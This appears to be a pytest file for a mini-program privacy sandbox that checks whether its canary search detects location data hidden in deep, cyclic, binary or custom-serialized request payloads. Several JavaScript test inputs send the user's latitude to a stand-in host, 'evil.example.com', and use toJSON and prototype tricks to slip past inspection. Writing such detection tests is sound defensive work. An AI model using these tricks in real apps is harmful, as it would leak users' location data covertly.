"""What crosses the bridge is the whole payload: deep, cyclic, self-toJSON and binary values reach the canary
search in full, on both engines, and a payload past the serializer's budget is cut visibly."""

from __future__ import annotations

import json

import pytest

from mpsandbox.apis.canary import CanaryRegistry

from .helpers import run_js, run_share

LOC = {"permission": {"scope.userLocation": {"desc": "near you"}}}
SEND = "tt.request({ url: 'https://api.example.com/c', method: 'POST', data: "


def located(body: str, engine: str):
    return run_js("tt.getLocation({ success: (r) => { " + body + " } });", app=LOC, engine=engine)


def flow_to(run, sink_api: str):
    return [f for f in run.flows() if f.sink_api == sink_api and f.source_api == "getLocation"]


@pytest.mark.parametrize("build", [
    "var d = { lat: r.latitude }; for (var i = 0; i < 1500; i++) d = { a: d };",  # deeper than any recursion
    "var d = { lat: r.latitude }; for (var i = 0; i < 70; i++) d = { a: d }; d.toJSON = function () { return d };",
    "Object.prototype.toJSON = function () { return this }; var d = { lat: r.latitude };"
    " for (var i = 0; i < 70; i++) d = { a: d };",  # planted where every object finds it
    "var d = { lat: r.latitude }; d.self = d; d.list = [d, { back: d }];",  # cycles
    "var d = [new Number(r.latitude)];",  # a wrapper is sent as its number
    "var d = { get bad() { throw new Error('no') }, lat: r.latitude };",  # a throwing getter loses only itself
], ids=["deep-1500", "self-toJSON-70", "planted-toJSON-70", "cycle", "wrapper", "throwing-getter"])
def test_hidden_shapes_reach_the_search(engine_name, build):
    run = located(build + SEND + "d });", engine_name)
    flows = flow_to(run, "request")
    assert flows and flows[0].source_kind == "latitude" and flows[0].destination == "api.example.com"
    assert not run.trace.of_kind("cap")  # nothing was cut: the record is whole


def test_a_deep_payload_is_recorded_and_crosses_as_deep_text(engine_name):
    run = located("var d = { lat: r.latitude }; for (var i = 0; i < 1500; i++) d = { a: d };"
                  "tt.setStorageSync('deep', d);", engine_name)
    assert flow_to(run, "setStorageSync")
    value, depth = run.storage["deep"], 0
    while isinstance(value, dict) and "a" in value:
        value, depth = value["a"], depth + 1
    # the host never holds more than 64 levels, the message's own two (the call, its arguments) included
    assert depth == 62 and isinstance(value["$deep"], str)
    text = value["$deep"]  # the rest, whole (too deep for Python's json, which is why it stays text)
    assert text.startswith('{"a":' * (1500 - 62) + '{"lat":') and text.endswith("}" * (1500 - 62 + 1))
    json.dumps(run.trace.model_dump(mode="json"))  # the trace is plain JSON


def test_json_semantics_are_the_platforms(engine_name):
    run = run_js("tt.setStorageSync('k', { f() {}, u: undefined, s: Symbol('x'), n: NaN, arr: [undefined, () => 1],"
                 " date: new Date(0), big: 12345678901234567890n, str: new String('s'), t: new Boolean(false),"
                 " nested: { toJSON(key) { return 'key:' + key } } });", engine=engine_name)
    assert run.storage["k"] == {"n": None, "arr": [None, None], "date": "1970-01-01T00:00:00.000Z",
                                "big": "12345678901234567890", "str": "s", "t": False, "nested": "key:nested"}


@pytest.mark.parametrize("body, sink_api, type_name", [
    ("var s = 'lat=' + r.latitude, u = new Uint8Array(s.length); for (var i = 0; i < s.length; i++) "
     "u[i] = s.charCodeAt(i);" + SEND + "u.buffer });", "request", "ArrayBuffer"),
    ("var s = String(r.latitude), u = new Uint16Array(s.length); for (var i = 0; i < s.length; i++) "
     "u[i] = s.charCodeAt(i);" + SEND + "u });", "request", "Uint16Array"),
    (SEND + "new DataView(new Float64Array([0, r.latitude]).buffer, 8) });", "request", "DataView"),
    ("var s = String(r.latitude), u = new Uint8Array(s.length); for (var i = 0; i < s.length; i++) "
     "u[i] = s.charCodeAt(i); var t = tt.connectSocket({ url: 'wss://ws.example.com/s' });"
     " t.onOpen(() => t.send({ data: u.buffer }));", "SocketTask.send", "ArrayBuffer"),
    ("var s = String(r.latitude), u = new Uint8Array(s.length); for (var i = 0; i < s.length; i++) "
     "u[i] = s.charCodeAt(i); tt.uploadFile({ url: 'https://api.example.com/u', filePath: 'ttfile://temp/a.jpg',"
     " name: 'f', formData: { blob: u } });", "uploadFile", "Uint8Array"),
], ids=["request-arraybuffer", "request-uint16", "request-dataview-float64", "socket-frame", "upload-formdata"])
def test_binary_bodies_are_sent_as_binary_and_searched(engine_name, body, sink_api, type_name):
    run = located(body, engine_name)
    flows = flow_to(run, sink_api)
    assert flows and flows[0].encoding == "binary", run.flows()
    sent = [c for c in run.trace.api_calls() if c.api == sink_api][-1]
    assert type_name in json.dumps(sent.args) and "$binary" in json.dumps(sent.args)


def test_array_buffer_to_base64_reads_a_buffer(engine_name):
    run = run_js("const b = new Uint8Array([104, 105]); log(wx.arrayBufferToBase64(b.buffer),"
                 " wx.arrayBufferToBase64(new DataView(b.buffer)));", platform="wx", engine=engine_name)
    assert run.logs == ["aGk= aGk="]


def test_a_payload_past_the_budget_is_cut_visibly_and_the_call_stays_whole(engine_name):
    run = located("var big = []; for (var i = 0; i < 250000; i++) big.push(i); big.push(r.latitude);"
                  + SEND + "big, success() { log('answered') } });"
                  "tt.request({ url: 'https://api.example.com/s', data: 'x'.repeat(9 * 1024 * 1024) });",
                  engine_name)
    caps = {(c.unit, c.where): c for c in run.trace.of_kind("cap")}
    values, chars = caps[("values", "tt.request")], caps[("chars", "tt.request")]
    assert values.cap == "payload" and values.judged and values.limit == 200_000 and values.dropped > 49_000
    assert chars.judged and chars.dropped >= 9 * 1024 * 1024 - 8 * 1024 * 1024
    calls = [c for c in run.trace.api_calls() if c.api == "request"]
    assert [c.domain for c in calls] == ["api.example.com"] * 2  # the envelope (api, url) survived the cut
    assert "answered" in run.logs  # and the callback names with it
    assert not flow_to(run, "request")  # the leak was past the cut: only the cap tells


def test_canary_search_reads_binary_texts_and_numbers():
    reg = CanaryRegistry(3)
    phone = reg.issue("phoneNumber", "getPhoneNumber")
    lat = reg.issue("latitude", "getLocation")
    import base64
    import struct

    def b(data: bytes) -> dict:
        return {"$binary": base64.b64encode(data).decode(), "type": "ArrayBuffer"}

    assert [h.encoding for h in reg.scan([b(b"x" + phone.encode("utf-16-be"))])] == ["binary"]
    assert [h.encoding for h in reg.scan({"d": b(b"\0" * 3 + struct.pack("<d", lat))})] == ["binary"]
    assert [h.encoding for h in reg.scan(b(base64.b64encode(phone.encode())))] == ["binary+base64"]
    deep: object = {"phone": phone}
    for _ in range(5000):  # far past Python's recursion limit
        deep = [deep]
    assert [h.canary.kind for h in reg.scan(deep)] == ["phoneNumber"]


@pytest.mark.parametrize("call", [
    # the platform reads url and data field by field: a toJSON of the options object never runs there
    "tt.request({ url: 'https://evil.example.com/?lat=' + r.latitude,"
    " toJSON() { return { url: 'https://api.example.com/' } } });",
    # inherited fields are read too
    "tt.request(Object.create({ url: 'https://evil.example.com/', data: { lat: r.latitude } }));",
    # a toJSON planted on Object.prototype runs on the data, as the platform's JSON.stringify runs it
    "Object.prototype.toJSON = function () { return this.tag ? { lat: r.latitude } : this };"
    " tt.request({ url: 'https://evil.example.com/', data: { tag: 1 } }); delete Object.prototype.toJSON;",
], ids=["own-toJSON-on-options", "inherited-options", "planted-toJSON-on-data"])
def test_options_are_read_as_the_platform_reads_them(engine_name, call):
    run = located(call, engine_name)
    flows = flow_to(run, "request")
    assert flows and flows[0].destination == "evil.example.com", run.flows()
    assert [c.domain for c in run.trace.api_calls("request")] == ["evil.example.com"]


def test_a_share_payload_is_read_field_by_field(engine_name):
    trace = run_share("Page({ go() { tt.getLocation({ success: (r) => { this.lat = r.latitude } }) },"
                      " onShareAppMessage() { const p = { path: '/pages/p/p?lat=' + this.lat,"
                      " toJSON() { return { path: '/pages/p/p' } } }; p.self = p; return p } })", LOC, engine_name)
    assert [f.sink for f in trace.of_kind("flow")] == ["share"]


def test_a_page_passed_to_an_api_crosses_as_its_identity_and_data_and_its_data_is_still_searched(engine_name):
    # createIntersectionObserver(this) is everyday code: the instance crosses without the framework's internals;
    # a page sent as request data still carries its data (and the location in it) to the search
    run = located("this.setData({ lat: r.latitude, big: Array.from({ length: 500 }, (_, i) => ({ i })) });"
                  "g.createIntersectionObserver(this, { thresholds: [0] });"
                  + SEND + "this });", engine_name)
    observer = next(e for e in run.trace.api_calls() if e.api == "createIntersectionObserver")
    assert observer.args[0]["$instance"] == "page" and observer.args[0]["route"] == "pages/p/p"
    assert "__components" not in observer.args[0] and "lat" in observer.args[0]["data"]
    flows = flow_to(run, "request")
    assert flows and flows[0].source_kind == "latitude"
    assert not run.trace.of_kind("cap")
